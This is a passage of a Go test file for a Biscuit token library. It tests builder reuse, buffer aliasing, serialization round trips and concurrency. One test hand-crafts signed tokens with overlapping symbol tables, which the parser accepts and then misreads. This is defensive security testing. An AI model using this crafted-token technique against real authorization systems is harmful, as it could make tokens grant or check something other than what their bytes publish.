		case *pb.Op_Binary:
			ops = append(ops, "B:"+c.Binary.GetKind().String())
		default:
			ops = append(ops, "<no op>")
		}
	}
	return "{" + strings.Join(ops, " ") + "}"
}

func wireRule(table []string, r *pb.RuleV2) string {
	body := []string{}
	for _, p := range r.Body {
		body = append(body, wirePred(table, p))
	}
	for _, e := range r.Expressions {
		body = append(body, wireExpr(table, e))
	}
	return wirePred(table, r.Head) + " <- " + strings.Join(body, ", ")
}

func decodeWire(t *testing.T, data []byte) (rootKeyID *uint32, blocks []wireBlock, sigs [][]byte) {
	t.Helper()
	c := new(pb.Biscuit)
	if err := proto.Unmarshal(data, c); err != nil {
		t.Fatalf("independent decode: %v", err)
	}
	table := []string{}
	all := append([]*pb.SignedBlock{c.Authority}, c.Blocks...)
	for _, sb := range all {
		b := new(pb.Block)
		if err := proto.Unmarshal(sb.Block, b); err != nil {
			t.Fatalf("independent decode block: %v", err)
		}
		table = append(table, b.Symbols...)
		wb := wireBlock{Symbols: b.Symbols, Context: b.GetContext(), Version: b.GetVersion()}
		for _, f := range b.FactsV2 {
			wb.Facts = append(wb.Facts, wirePred(table, f.Predicate))
		}
		for _, r := range b.RulesV2 {
			wb.Rules = append(wb.Rules, wireRule(table, r))
		}
		for _, ch := range b.ChecksV2 {
			qs := []string{}
			for _, q := range ch.Queries {
				qs = append(qs, wireRule(table, q))
			}
			wb.Checks = append(wb.Checks, strings.Join(qs, " OR "))
		}
		blocks = append(blocks, wb)
		sigs = append(sigs, sb.Signature)
	}
	return c.RootKeyId, blocks, sigs
}

// canonical text of what the caller supplied (builder types)

func srcTerm(t biscuit.Term) string {
	switch v := t.(type) {
	case biscuit.Variable:
		return "$" + string(v)
	case biscuit.Integer:
		return fmt.Sprintf("%d", int64(v))
	case biscuit.String:
		return fmt.Sprintf("%q", string(v))
	case biscuit.Date:
		return fmt.Sprintf("date:%d", time.Time(v).Unix())
	case biscuit.Bytes:
		return "hex:" + hex.EncodeToString(v)
	case biscuit.Bool:
		return fmt.Sprintf("%t", bool(v))
	case biscuit.Set:
		elts := []string{}
		for _, e := range v {
			elts = append(elts, srcTerm(e))
		}
		return "[" + strings.Join(elts, ", ") + "]"
	}
	return "<?>"
}

func srcPred(p biscuit.Predicate) string {
	terms := []string{}
	for _, t := range p.IDs {
		terms = append(terms, srcTerm(t))
	}
	return fmt.Sprintf("%s(%s)", p.Name, strings.Join(terms, ", "))
}

var unaryNames = map[biscuit.UnaryOp]string{
	biscuit.UnaryNegate: "Negate", biscuit.UnaryParens: "Parens", biscuit.UnaryLength: "Length",
}
var binaryNames = map[biscuit.BinaryOp]string{
	biscuit.BinaryLessThan: "LessThan", biscuit.BinaryLessOrEqual: "LessOrEqual",
	biscuit.BinaryGreaterThan: "GreaterThan", biscuit.BinaryGreaterOrEqual: "GreaterOrEqual",
	biscuit.BinaryEqual: "Equal", biscuit.BinaryContains: "Contains", biscuit.BinaryPrefix: "Prefix",
	biscuit.BinarySuffix: "Suffix", biscuit.BinaryRegex: "Regex", biscuit.BinaryAdd: "Add",
	biscuit.BinarySub: "Sub", biscuit.BinaryMul: "Mul", biscuit.BinaryDiv: "Div",
	biscuit.BinaryAnd: "And", biscuit.BinaryOr: "Or", biscuit.BinaryIntersection: "Intersection",
	biscuit.BinaryUnion: "Union",
}

func srcExpr(e biscuit.Expression) string {
	ops := []string{}
	for _, op := range e {
		switch v := op.(type) {
		case biscuit.Value:
			ops = append(ops, srcTerm(v.Term))
		case biscuit.UnaryOp:
			ops = append(ops, "U:"+unaryNames[v])
		case biscuit.BinaryOp:
			ops = append(ops, "B:"+binaryNames[v])
		}
	}
	return "{" + strings.Join(ops, " ") + "}"
}

func srcRule(r biscuit.Rule) string {
	body := []string{}
	for _, p := range r.Body {
		body = append(body, srcPred(p))
	}
	for _, e := range r.Expressions {
		body = append(body, srcExpr(e))
	}
	return srcPred(r.Head) + " <- " + strings.Join(body, ", ")
}

func srcCheck(c biscuit.Check) string {
	qs := []string{}
	for _, q := range c.Queries {
		qs = append(qs, srcRule(q))
	}
	return strings.Join(qs, " OR ")
}

type srcBlock struct {
	Facts   []biscuit.Fact
	Rules   []biscuit.Rule
	Checks  []biscuit.Check
	Context string
}

func (s srcBlock) render() wireBlock {
	wb := wireBlock{Context: s.Context, Version: 3}
	for _, f := range s.Facts {
		wb.Facts = append(wb.Facts, srcPred(f.Predicate))
	}
	for _, r := range s.Rules {
		wb.Rules = append(wb.Rules, srcRule(r))
	}
	for _, c := range s.Checks {
		wb.Checks = append(wb.Checks, srcCheck(c))
	}
	return wb
}

func sameContent(a, b wireBlock) bool {
	return a.Context == b.Context && a.Version == b.Version &&
		strings.Join(a.Facts, ";") == strings.Join(b.Facts, ";") &&
		strings.Join(a.Rules, ";") == strings.Join(b.Rules, ";") &&
		strings.Join(a.Checks, ";") == strings.Join(b.Checks, ";")
}

func fact(name string, ids ...biscuit.Term) biscuit.Fact {
	return biscuit.Fact{Predicate: biscuit.Predicate{Name: name, IDs: ids}}
}

func keys(t *testing.T) (ed25519.PublicKey, ed25519.PrivateKey) {
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return pub, priv
}

func authorityOf(t *testing.T, priv ed25519.PrivateKey, s srcBlock) *biscuit.Biscuit {
	t.Helper()
	b := biscuit.NewBuilder(priv)
	fill(t, b, s)
	tok, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

func fill(t *testing.T, b biscuit.Builder, s srcBlock) {
	t.Helper()
	for _, f := range s.Facts {
		if err := b.AddAuthorityFact(f); err != nil {
			t.Fatal(err)
		}
	}
	for _, r := range s.Rules {
		if err := b.AddAuthorityRule(r); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range s.Checks {
		if err := b.AddAuthorityCheck(c); err != nil {
			t.Fatal(err)
		}
	}
	b.SetContext(s.Context)
}

func fillBlock(t *testing.T, b biscuit.BlockBuilder, s srcBlock) {
	t.Helper()
	for _, f := range s.Facts {
		if err := b.AddFact(f); err != nil {
			t.Fatal(err)
		}
	}
	for _, r := range s.Rules {
		if err := b.AddRule(r); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range s.Checks {
		if err := b.AddCheck(c); err != nil {
			t.Fatal(err)
		}
	}
	b.SetContext(s.Context)
}

func checkWire(t *testing.T, label string, data []byte, want []srcBlock) bool {
	t.Helper()
	_, got, _ := decodeWire(t, data)
	ok := true
	if len(got) != len(want) {
		t.Errorf("%s: %d blocks on the wire, want %d", label, len(got), len(want))
		return false
	}
	for i := range want {
		w := want[i].render()
		if !sameContent(got[i], w) {
			ok = false
			t.Errorf("%s: block %d on the wire differs from what the caller supplied\n wire: %+v\n want: %+v", label, i, got[i], w)
		}
	}
	return ok
}

func authorizeResult(t *testing.T, tok *biscuit.Biscuit, pub ed25519.PublicKey, setup func(a biscuit.Authorizer)) string {
	t.Helper()
	a, err := tok.Authorizer(pub, biscuit.WithWorldOptions(datalog.WithMaxDuration(30*time.Second)))
	if err != nil {
		return "authorizer error: " + err.Error()
	}
	if setup != nil {
		setup(a)
	}
	a.AddPolicy(biscuit.DefaultAllowPolicy)
	if err := a.Authorize(); err != nil {
		return "denied: " + err.Error()
	}
	return "allowed"
}

func checkReload(t *testing.T, label string, tok *biscuit.Biscuit, pub ed25519.PublicKey) {
	t.Helper()
	data, err := tok.Serialize()
	if err != nil {
		t.Fatalf("%s: %v", label, err)
	}
	re, err := biscuit.Unmarshal(data)
	if err != nil {
		t.Errorf("%s: unmarshal: %v", label, err)
		return
	}
	data2, err := re.Serialize()
	if err != nil || !bytes.Equal(data, data2) {
		t.Errorf("%s: re-serialization differs (%v)", label, err)
	}
	if tok.String() != re.String() {
		t.Errorf("%s: String() differs after reload\n before: %s\n after: %s", label, tok.String(), re.String())
	}
	a, b := tok.RevocationIds(), re.RevocationIds()
	if len(a) != len(b) {
		t.Errorf("%s: revocation id count differs", label)
	} else {
		for i := range a {
			if !bytes.Equal(a[i], b[i]) {
				t.Errorf("%s: revocation id %d differs", label, i)
			}
		}
	}
	ka, kb := tok.RootKeyID(), re.RootKeyID()
	if (ka == nil) != (kb == nil) || (ka != nil && *ka != *kb) {
		t.Errorf("%s: root key id differs", label)
	}
	ra, rb := authorizeResult(t, tok, pub, nil), authorizeResult(t, re, pub, nil)
	if ra != rb {
		t.Errorf("%s: authorization differs after reload: %q vs %q", label, ra, rb)
	}
}

// a rich block touching every term type / operator
func richBlock(tag string) srcBlock {
	allBin := []biscuit.BinaryOp{}
	for k := range binaryNames {
		allBin = append(allBin, k)
	}
	sort.Slice(allBin, func(i, j int) bool { return allBin[i] < allBin[j] })
	expr := biscuit.Expression{biscuit.Value{Term: biscuit.Integer(1)}}
	for _, op := range allBin {
		expr = append(expr, biscuit.Value{Term: biscuit.Variable("v" + tag)}, op)
	}
	expr = append(expr, biscuit.UnaryNegate, biscuit.UnaryParens, biscuit.UnaryLength)
	return srcBlock{
		Context: "ctx-" + tag,
		Facts: []biscuit.Fact{
			fact("read", biscuit.String("write"), biscuit.String("fresh-"+tag)),
			fact("p"+tag, biscuit.Integer(-1<<63), biscuit.Integer(1<<63-1), biscuit.Integer(0)),
			fact("d"+tag, biscuit.Date(time.Unix(0, 0)), biscuit.Date(time.Unix(-5, 0)), biscuit.Date(time.Time{}), biscuit.Date(time.Unix(1<<40, 0))),
			fact("b"+tag, biscuit.Bytes(nil), biscuit.Bytes{}, biscuit.Bytes{0, 255}, biscuit.Bool(true), biscuit.Bool(false)),
			fact("s"+tag, biscuit.Set{biscuit.String("a" + tag), biscuit.String("read")}, biscuit.Set{biscuit.Integer(3), biscuit.Integer(3)},
				biscuit.Set{biscuit.Bytes{1}}, biscuit.Set{biscuit.Bool(false)}, biscuit.Set{biscuit.Date(time.Unix(7, 0))}),
			fact("", biscuit.String("")),
			fact("utf"+tag, biscuit.String("\xff\xfe not utf8"), biscuit.String("\x00"), biscuit.String("héllo")),
			fact("noterms" + tag),
		},
		Rules: []biscuit.Rule{
			{
				Head: biscuit.Predicate{Name: "h" + tag, IDs: []biscuit.Term{biscuit.Variable("x"), biscuit.String("fresh-" + tag)}},
				Body: []biscuit.Predicate{
					{Name: "nomatch" + tag, IDs: []biscuit.Term{biscuit.Variable("x"), biscuit.Variable("read"), biscuit.Variable("y" + tag)}},
				},
				Expressions: []biscuit.Expression{expr, {}},
			},
		},
		Checks: []biscuit.Check{
			{Queries: []biscuit.Rule{
				{Head: biscuit.Predicate{Name: "q1" + tag}, Body: []biscuit.Predicate{{Name: "read", IDs: []biscuit.Term{biscuit.Variable("a"), biscuit.Variable("b")}}}},
				{Head: biscuit.Predicate{Name: "q2" + tag}, Body: []biscuit.Predicate{{Name: "noterms" + tag}}},
			}},
			{Queries: nil},
		},
	}
}

// ---------------------------------------------------------------------------
// Baseline: the straight sequences hold (documents that the harness is sound).
// ---------------------------------------------------------------------------

func TestC07_Baseline_StraightSequences(t *testing.T) {
	pub, priv := keys(t)
	src := []srcBlock{richBlock("A")}
	bld := biscuit.NewBuilder(priv, biscuit.WithRootKeyID(4294967295))
	fill(t, bld, src[0])
	tok, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	data, _ := tok.Serialize()
	checkWire(t, "authority", data, src)
	checkReload(t, "authority", tok, pub)

	cur := tok
	for i, tag := range []string{"B", "C", "A"} { // "A" again: only shared symbols
		if i%2 == 1 { // alternate between the in-memory and the reloaded token
			d, _ := cur.Serialize()
			cur, err = biscuit.Unmarshal(d)
			if err != nil {
				t.Fatal(err)
			}
		}
		s := richBlock(tag)
		s.Context = "again-" + tag
		bb := cur.CreateBlock()
		fillBlock(t, bb, s)
		cur, err = cur.Append(rand.Reader, bb.Build())
		if err != nil {
			t.Fatal(err)
		}
		src = append(src, s)
		data, _ = cur.Serialize()
		checkWire(t, "append "+tag, data, src)
		checkReload(t, "append "+tag, cur, pub)
	}
	sealed, err := cur.Seal(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	data, _ = sealed.Serialize()
	checkWire(t, "sealed", data, src)
	checkReload(t, "sealed", sealed, pub)
	if id, _, _ := decodeWire(t, data); id == nil || *id != 4294967295 || sealed.RootKeyID() == nil || *sealed.RootKeyID() != 4294967295 {
		t.Errorf("root key id lost along the chain")
	}
	if _, err := sealed.Append(rand.Reader, cur.CreateBlock().Build()); err == nil {
		t.Errorf("append to a sealed token accepted")
	}
}

// ---------------------------------------------------------------------------
// F1: Builder.Build() destroys the builder's symbol table.
// ---------------------------------------------------------------------------

// Building twice from the same builder: the second token is signed over a block whose
// symbol table is empty although its facts reference fresh symbols.
func TestC07_F1a_BuilderBuildTwice(t *testing.T) {
	pub, priv := keys(t)
	src := srcBlock{Facts: []biscuit.Fact{fact("owner_of", biscuit.String("alice"), biscuit.String("file1"))}}
	bld := biscuit.NewBuilder(priv)
	fill(t, bld, src)
	t1, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	d1, _ := t1.Serialize()
	checkWire(t, "first Build", d1, []srcBlock{src})

	t2, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	d2, _ := t2.Serialize()
	checkWire(t, "second Build", d2, []srcBlock{src})
	checkReload(t, "second Build", t2, pub)
}

// Build, add one more fact with a fresh symbol, Build again: the fresh symbol takes
// index 1024 again, so the earlier facts silently change meaning in the second token.
func TestC07_F1b_BuilderBuildAddBuild(t *testing.T) {
	pub, priv := keys(t)
	f1 := fact("role", biscuit.String("guest"))
	f2 := fact("grant", biscuit.String("superuser"))
	bld := biscuit.NewBuilder(priv)
	if err := bld.AddAuthorityFact(f1); err != nil {
		t.Fatal(err)
	}
	if _, err := bld.Build(); err != nil {
		t.Fatal(err)
	}
	// a second, different fact (a distinct predicate name, see F1c for why)
	if err := bld.AddAuthorityFact(f2); err != nil {
		t.Fatalf("adding a distinct fact after Build: %v", err)
	}
	t2, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	d2, _ := t2.Serialize()
	checkWire(t, "Build/Add/Build", d2, []srcBlock{{Facts: []biscuit.Fact{f1, f2}}})
	_ = pub
}

// A distinct fact is refused as "already exists" after Build, because its fresh symbol
// gets the index of an unrelated earlier symbol.
func TestC07_F1c_BuilderAddAfterBuildFalseDuplicate(t *testing.T) {
	_, priv := keys(t)
	bld := biscuit.NewBuilder(priv)
	if err := bld.AddAuthorityFact(fact("role", biscuit.String("guest"))); err != nil {
		t.Fatal(err)
	}
	if _, err := bld.Build(); err != nil {
		t.Fatal(err)
	}
	if err := bld.AddAuthorityFact(fact("role", biscuit.String("superuser"))); err != nil {
		t.Errorf("role(\"superuser\") is not a duplicate of role(\"guest\") but was refused: %v", err)
	}
}

// The built token shares its fact set with the builder: adding to the builder afterwards
// changes the in-memory token, which then no longer matches its own serialization.
func TestC07_F1d_BuilderAddAfterBuildMutatesBuiltToken(t *testing.T) {
	pub, priv := keys(t)
	bld := biscuit.NewBuilder(priv)
	if err := bld.AddAuthorityFact(fact("user", biscuit.Integer(1))); err != nil {
		t.Fatal(err)
	}
	tok, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	before := tok.String()
	if err := bld.AddAuthorityFact(fact("admin", biscuit.Integer(1))); err != nil {
		t.Fatal(err)
	}
	if after := tok.String(); after != before {
		t.Errorf("already built token changed when the builder was used again\n before: %s\n after: %s", before, after)
	}
	checkReload(t, "built token after builder reuse", tok, pub)
	// authorization differs as well: check if admin(1)
	chk := func(a biscuit.Authorizer) {
		a.AddCheck(biscuit.Check{Queries: []biscuit.Rule{{Head: biscuit.Predicate{Name: "q"}, Body: []biscuit.Predicate{{Name: "admin", IDs: []biscuit.Term{biscuit.Integer(1)}}}}}})
	}
	data, _ := tok.Serialize()
	re, err := biscuit.Unmarshal(data)
	if err != nil {
		t.Fatal(err)
	}
	if a, b := authorizeResult(t, tok, pub, chk), authorizeResult(t, re, pub, chk); a != b {
		t.Errorf("in-memory token and its own bytes authorize differently: %q vs %q", a, b)
	}
}

// ---------------------------------------------------------------------------
// F2: BlockBuilder.Build() replaces the builder's table by the split-off part.
// ---------------------------------------------------------------------------

func TestC07_F2a_BlockBuilderBuildTwice(t *testing.T) {
	pub, priv := keys(t)
	auth := srcBlock{Facts: []biscuit.Fact{fact("a1", biscuit.String("s1"), biscuit.String("s2"))}}
	tok := authorityOf(t, priv, auth)
	blk := srcBlock{Facts: []biscuit.Fact{fact("blockfact", biscuit.String("fresh"))}}
	bb := tok.CreateBlock()
	fillBlock(t, bb, blk)
	_ = bb.Build()
	var second *biscuit.Block
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("second BlockBuilder.Build() panicked: %v", r)
			}
		}()
		second = bb.Build()
	}()
	if second == nil {
		return
	}
	t2, err := tok.Append(rand.Reader, second)
	if err != nil {
		t.Fatal(err)
	}
	d, _ := t2.Serialize()
	checkWire(t, "block from second Build", d, []srcBlock{auth, blk})
	checkReload(t, "block from second Build", t2, pub)
}

func TestC07_F2b_BlockBuilderBuildAddBuild(t *testing.T) {
	pub, priv := keys(t)
	auth := srcBlock{Facts: []biscuit.Fact{fact("a1", biscuit.String("s1"))}} // 2 fresh symbols
	tok := authorityOf(t, priv, auth)
	f1 := fact("b1", biscuit.String("x1"))                     // 2 fresh symbols
	f2 := fact("b2", biscuit.String("x2"), biscuit.Integer(5)) // 2 more fresh symbols
	bb := tok.CreateBlock()
	if err := bb.AddFact(f1); err != nil {
		t.Fatal(err)
	}
	_ = bb.Build()
	if err := bb.AddFact(f2); err != nil {
		t.Fatal(err)
	}
	var second *biscuit.Block
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("second BlockBuilder.Build() panicked: %v", r)
			}
		}()
		second = bb.Build()
	}()
	if second == nil {
		return
	}
	t2, err := tok.Append(rand.Reader, second)
	if err != nil {
		t.Errorf("append of the re-built block: %v", err)
		return
	}
	d, _ := t2.Serialize()
	checkWire(t, "Build/Add/Build block", d, []srcBlock{auth, {Facts: []biscuit.Fact{f1, f2}}})
	checkReload(t, "Build/Add/Build block", t2, pub)
}

// after Build, a distinct fact is refused as a duplicate (its symbols get the indexes of
// the first fact's symbols)
func TestC07_F2c_BlockBuilderAddAfterBuildFalseDuplicate(t *testing.T) {
	_, priv := keys(t)
	tok := authorityOf(t, priv, srcBlock{Facts: []biscuit.Fact{fact("a1", biscuit.String("s1"))}})
	bb := tok.CreateBlock()
	if err := bb.AddFact(fact("b1", biscuit.String("x1"))); err != nil {
		t.Fatal(err)
	}
	_ = bb.Build()
	if err := bb.AddFact(fact("b2", biscuit.String("a1"))); err != nil {
		t.Errorf("b2(\"a1\") is not a duplicate of b1(\"x1\") but was refused: %v", err)
	}
}

// ---------------------------------------------------------------------------
// F3: two block builders created from the same token, appended one after the other.
// ---------------------------------------------------------------------------

func TestC07_F3_SiblingBlocksAppendedInSequence(t *testing.T) {
	pub, priv := keys(t)
	auth := srcBlock{Facts: []biscuit.Fact{fact("right", biscuit.String("file1"), biscuit.String("read"))}}
	tok := authorityOf(t, priv, auth)

	s1 := srcBlock{Checks: []biscuit.Check{{Queries: []biscuit.Rule{{
		Head: biscuit.Predicate{Name: "c1"},
		Body: []biscuit.Predicate{{Name: "resource", IDs: []biscuit.Term{biscuit.String("only-this-file")}}},
	}}}}}
	s2 := srcBlock{Checks: []biscuit.Check{{Queries: []biscuit.Rule{{
		Head: biscuit.Predicate{Name: "c2"},
		Body: []biscuit.Predicate{{Name: "tenant", IDs: []biscuit.Term{biscuit.String("acme")}}},
	}}}}}
	bb1, bb2 := tok.CreateBlock(), tok.CreateBlock()
	fillBlock(t, bb1, s1)
	fillBlock(t, bb2, s2)

	t1, err := tok.Append(rand.Reader, bb1.Build())
	if err != nil {
		t.Fatal(err)
	}
	t2, err := t1.Append(rand.Reader, bb2.Build())
	if err != nil {
		t.Logf("append refused (that would be fine): %v", err)
		return
	}
	d, _ := t2.Serialize()
	checkWire(t, "sibling blocks", d, []srcBlock{auth, s1, s2})
	checkReload(t, "sibling blocks", t2, pub)
}

// ---------------------------------------------------------------------------
// F4: Bytes terms alias the caller's buffer.
// ---------------------------------------------------------------------------

func TestC07_F4_BytesTermAliasesCallerBuffer(t *testing.T) {
	pub, priv := keys(t)
	buf := []byte{1, 2, 3, 4}
	bld := biscuit.NewBuilder(priv)
	if err := bld.AddAuthorityFact(fact("digest", biscuit.Bytes(buf))); err != nil {
		t.Fatal(err)
	}
	copy(buf, []byte{9, 9, 9, 9}) // caller reuses its buffer after handing the fact over
	tok, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	d, _ := tok.Serialize()
	checkWire(t, "bytes reused before Build", d, []srcBlock{{Facts: []biscuit.Fact{fact("digest", biscuit.Bytes{1, 2, 3, 4})}}})

	// and after Build: the in-memory token diverges from its own bytes
	before := tok.String()
	copy(buf, []byte{7, 7, 7, 7})
	if tok.String() != before {
		t.Errorf("built token content changed through the caller's buffer:\n before %s\n after %s", before, tok.String())
	}
	checkReload(t, "bytes reused after Build", tok, pub)
}

// ---------------------------------------------------------------------------
// F5: RevocationIds hands out the token's own signature slices.
// ---------------------------------------------------------------------------

func TestC07_F5_RevocationIdsAliasSignatures(t *testing.T) {
	pub, priv := keys(t)
	tok := authorityOf(t, priv, srcBlock{Facts: []biscuit.Fact{fact("user", biscuit.Integer(1))}})
	before, _ := tok.Serialize()
	ids := tok.RevocationIds()
	for i := range ids[0] {
		ids[0][i] = 0
	}
	after, _ := tok.Serialize()
	if !bytes.Equal(before, after) {
		t.Errorf("writing to the slice returned by RevocationIds changed the token's serialization")
	}
	if r := authorizeResult(t, tok, pub, nil); r != "allowed" {
		t.Errorf("token no longer verifies after writing to the returned revocation id: %s", r)
	}
}

// ---------------------------------------------------------------------------
// F6: WithSymbols: the authority block is not resolvable from the wire alone.
// ---------------------------------------------------------------------------

func TestC07_F6_WithSymbolsTokenNotSelfContained(t *testing.T) {
	pub, priv := keys(t)
	base := &datalog.SymbolTable{"tenant-a"}
	src := srcBlock{Facts: []biscuit.Fact{fact("member", biscuit.String("tenant-a"), biscuit.String("bob"))}}
	bld := biscuit.NewBuilder(priv, biscuit.WithSymbols(base))
	fill(t, bld, src)
	tok, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	d, _ := tok.Serialize()
	checkWire(t, "WithSymbols", d, []srcBlock{src})
	checkReload(t, "WithSymbols", tok, pub)
}

// ---------------------------------------------------------------------------
// Concurrency on one shared token (run with -race).
// ---------------------------------------------------------------------------

func TestC07_Race_SharedToken(t *testing.T) {
	pub, priv := keys(t)
	tok := authorityOf(t, priv, richBlock("A"))
	bb := tok.CreateBlock()
	fillBlock(t, bb, richBlock("B"))
	tok, err := tok.Append(rand.Reader, bb.Build())
	if err != nil {
		t.Fatal(err)
	}
	want, _ := tok.Serialize()
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 20; i++ {
				switch (g + i) % 6 {
				case 0:
					d, _ := tok.Serialize()
					if !bytes.Equal(d, want) {
						t.Errorf("serialization changed")
					}
				case 1:
					_ = tok.String()
				case 2:
					authorizeResult(t, tok, pub, nil)
				case 3:
					b := tok.CreateBlock()
					_ = b.AddFact(fact(fmt.Sprintf("g%d", g), biscuit.String(fmt.Sprintf("s%d", i))))
					n, err := tok.Append(rand.Reader, b.Build())
					if err != nil {
						t.Errorf("append: %v", err)
						continue
					}
					d, _ := n.Serialize()
					if _, err := biscuit.Unmarshal(d); err != nil {
						t.Errorf("unmarshal: %v", err)
					}
				case 4:
					s, err := tok.Seal(rand.Reader)
					if err != nil {
						t.Errorf("seal: %v", err)
						continue
					}
					authorizeResult(t, s, pub, nil)
				case 5:
					_ = tok.RevocationIds()
					_ = tok.RootKeyID()
					_ = tok.Checks()
				}
			}
		}(g)
	}
	wg.Wait()
	d, _ := tok.Serialize()
	if !bytes.Equal(d, want) {
		t.Errorf("serialization changed after concurrent use")
	}
}

// ---------------------------------------------------------------------------
// F7 (outside the builder-quantified domain): Unmarshal accepts a block whose symbol
// table repeats an earlier (or default) symbol and silently drops the repeat, so every
// later index of that block resolves one position off the published rule.
// ---------------------------------------------------------------------------

func signBlock(priv ed25519.PrivateKey, blk *pb.Block) (*pb.SignedBlock, ed25519.PrivateKey) {
	data, err := proto.Marshal(blk)
	if err != nil {
		panic(err)
	}
	nextPub, nextPriv, _ := ed25519.GenerateKey(rand.Reader)
	alg := pb.PublicKey_Ed25519
	payload := append([]byte{}, data...)
	payload = append(payload, 0, 0, 0, 0)
	payload = append(payload, nextPub...)
	return &pb.SignedBlock{
		Block:     data,
		NextKey:   &pb.PublicKey{Algorithm: &alg, Key: nextPub},
		Signature: ed25519.Sign(priv, payload),
	}, nextPriv
}

func pbFact(name uint64, strs ...uint64) *pb.FactV2 {
	terms := []*pb.TermV2{}
	for _, s := range strs {
		terms = append(terms, &pb.TermV2{Content: &pb.TermV2_String_{String_: s}})
	}
	return &pb.FactV2{Predicate: &pb.PredicateV2{Name: proto.Uint64(name), Terms: terms}}
}

func TestC07_F7_UnmarshalAcceptsOverlappingSymbolTables(t *testing.T) {
	pub, priv := keys(t)
	for _, dup := range []string{"alice", "read"} { // earlier-block symbol, default symbol
		auth := &pb.Block{
			Symbols: []string{"alice", "owner_of"}, // 1024, 1025
			Version: proto.Uint32(3),
			FactsV2: []*pb.FactV2{pbFact(1025, 1024)},
		}
		blk := &pb.Block{
			Symbols: []string{dup, "bob", "guest_of"}, // 1026, 1027, 1028 by the published rule
			Version: proto.Uint32(3),
			FactsV2: []*pb.FactV2{pbFact(1028, 1027)}, // guest_of("bob")
		}
		sa, k1 := signBlock(priv, auth)
		sb, k2 := signBlock(k1, blk)
		data, err := proto.Marshal(&pb.Biscuit{
			Authority: sa,
			Blocks:    []*pb.SignedBlock{sb},
			Proof:     &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: k2.Seed()}},
		})
		if err != nil {
			t.Fatal(err)
		}
		_, wire, _ := decodeWire(t, data)
		tok, err := biscuit.Unmarshal(data)
		if err != nil {
			t.Logf("dup %q: rejected (fine): %v", dup, err)
			continue
		}
		if r := authorizeResult(t, tok, pub, nil); r != "allowed" {
			t.Fatalf("crafted token should verify: %s", r)
		}
		lib := tok.String()
		want := fmt.Sprintf("[%s]", wire[1].Facts[0])
		if !strings.Contains(lib, want) {
			t.Errorf("dup %q: token accepted, but block 1 is read as something else than the published symbol rule gives\n rule: %s\n library: %s", dup, want, lib)
		}

		// consequence for an honest holder: a block attenuated on top of that token is
		// written with indexes computed from the de-duplicated table, so the bytes do
		// not carry the caller's check under the published rule.
		honest := srcBlock{Checks: []biscuit.Check{{Queries: []biscuit.Rule{{
			Head: biscuit.Predicate{Name: "q"},
			Body: []biscuit.Predicate{{Name: "resource", IDs: []biscuit.Term{biscuit.String("report.pdf")}}},
		}}}}}
		bb := tok.CreateBlock()
		fillBlock(t, bb, honest)
		t2, err := tok.Append(rand.Reader, bb.Build())
		if err != nil {
			t.Fatal(err)
		}
		d2, _ := t2.Serialize()
		_, wire2, _ := decodeWire(t, d2)
		if !sameContent(wire2[2], honest.render()) {
			t.Errorf("dup %q: honest block appended after the overlapping block is not carried by the bytes\n wire: %+v\n want: %+v", dup, wire2[2], honest.render())
		}
	}
}

// ---------------------------------------------------------------------------
// Version gate: only version 3 goes through (expected to pass).
// ---------------------------------------------------------------------------

func TestC07_VersionGate(t *testing.T) {
	_, priv := keys(t)
	for _, v := range []*uint32{nil, proto.Uint32(0), proto.Uint32(1), proto.Uint32(2), proto.Uint32(4), proto.Uint32(1 << 31), proto.Uint32(4294967295)} {
		for pos := 0; pos < 2; pos++ {
			auth := &pb.Block{Version: proto.Uint32(3)}
			blk := &pb.Block{Version: proto.Uint32(3)}
			if pos == 0 {
				auth.Version = v
			} else {
				blk.Version = v
			}
			sa, k1 := signBlock(priv, auth)
			sb, k2 := signBlock(k1, blk)
			data, _ := proto.Marshal(&pb.Biscuit{Authority: sa, Blocks: []*pb.SignedBlock{sb},
				Proof: &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: k2.Seed()}}})
			if _, err := biscuit.Unmarshal(data); err == nil {
				t.Errorf("version %v at block %d accepted", v, pos)
			}
		}
	}
}

// ---------------------------------------------------------------------------
// Further probes that hold on the unchanged code (expected to pass).
// ---------------------------------------------------------------------------

// WithSymbols + an Unmarshaler given the same base table: consistent.
func TestC07_Probe_WithSymbolsMatchingUnmarshaler(t *testing.T) {
	pub, priv := keys(t)
	base := &datalog.SymbolTable{"tenant-a", "read", "tenant-a"} // incl. a default symbol and a repeat
	src := srcBlock{Facts: []biscuit.Fact{fact("member", biscuit.String("tenant-a"), biscuit.String("bob"), biscuit.String("read"))}}
	bld := biscuit.NewBuilder(priv, biscuit.WithSymbols(base))
	fill(t, bld, src)
	tok, err := bld.Build()
	if err != nil {
		t.Fatal(err)
	}
	d, _ := tok.Serialize()
	re, err := (&biscuit.Unmarshaler{Symbols: base}).Unmarshal(d)
	if err != nil {
		t.Fatal(err)
	}
	if tok.String() != re.String() {
		t.Errorf("content differs with the matching base table:\n%s\n%s", tok.String(), re.String())
	}
	if len(*base) != 3 {
		t.Errorf("caller's base table was modified: %v", *base)
	}
	if a, b := authorizeResult(t, tok, pub, nil), authorizeResult(t, re, pub, nil); a != b {
		t.Errorf("authorization differs: %s / %s", a, b)
	}
}

// many blocks, many symbols, every block re-using symbols of all earlier blocks
func TestC07_Probe_ManyBlocksManySymbols(t *testing.T) {
	pub, priv := keys(t)
	mk := func(i int) srcBlock {
		s := srcBlock{Context: fmt.Sprintf("c%d", i)}
		for j := 0; j < 40; j++ {
